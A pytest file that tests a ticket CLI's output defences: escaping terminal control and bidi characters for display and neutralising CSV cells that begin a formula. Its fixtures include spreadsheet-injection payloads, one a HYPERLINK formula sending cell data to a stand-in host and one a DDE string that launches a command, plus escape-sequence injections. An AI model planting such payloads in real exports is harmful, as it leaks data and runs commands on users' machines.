"""render.output's two defences: text for people shows controls instead of
obeying them, and CSV cells never start a formula."""

from __future__ import annotations

import csv
import io

import pytest

from ticketcli.render.output import emit, neutralise_formula, visible


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain Jüri Õun ☃", "plain Jüri Õun ☃"),
        ("a\x1b[31mb", "a\\x1b[31mb"),
        ("\x9b2J", "\\x9b2J"),
        ("\x9d0;title\x9c", "\\x9d0;title\\x9c"),
        ("\x07\x00\x7f", "\\x07\\x00\\x7f"),
        ("\u202eevil\u202c", "\\u202eevil\\u202c"),
        ("\u2066x\u2069\u200f", "\\u2066x\\u2069\\u200f"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        ("\r", "\\x0d"),
    ],
)
def test_visible_shows_every_control(text: str, shown: str) -> None:
    assert visible(text) == shown


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?d="&A1,"Click me")', None),
        ("@SUM(1+9)*cmd|' /C calc'!A0", None),
        ("+1", None),
        ("-1", None),
        ("\t=1", None),
        ("\r=1", None),
        ("Printer on katki", "Printer on katki"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_formula_becomes_text(cell: str, written: str | None) -> None:
    assert neutralise_formula(cell) == (f"'{cell}" if written is None else written)


def test_csv_output_neutralises_cells_and_leaves_numbers() -> None:
    out = io.StringIO()
    emit(
        [{"subject": "=1+1", "vs": -3, "names": ["@a", "b"], "ok": True}],
        ("subject", "vs", "names", "ok"),
        "csv",
        out=out,
    )
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["subject", "vs", "names", "ok"],
        ["'=1+1", "-3", "'@a b", "true"],
    ]


def test_a_table_shows_controls_and_json_keeps_them() -> None:
    row = {"subject": "x\x9b31my\u202ez"}
    table, data = io.StringIO(), io.StringIO()
    emit([row], ("subject",), "table", out=table)
    emit([row], ("subject",), "json", out=data)
    assert "\x9b" not in table.getvalue()
    assert "\u202e" not in table.getvalue()
    assert "x\\x9b31my\\u202ez" in table.getvalue()
    assert (
        "\\u009b31my\u202ez" in data.getvalue() or "\x9b31my\u202ez" in data.getvalue()
    )
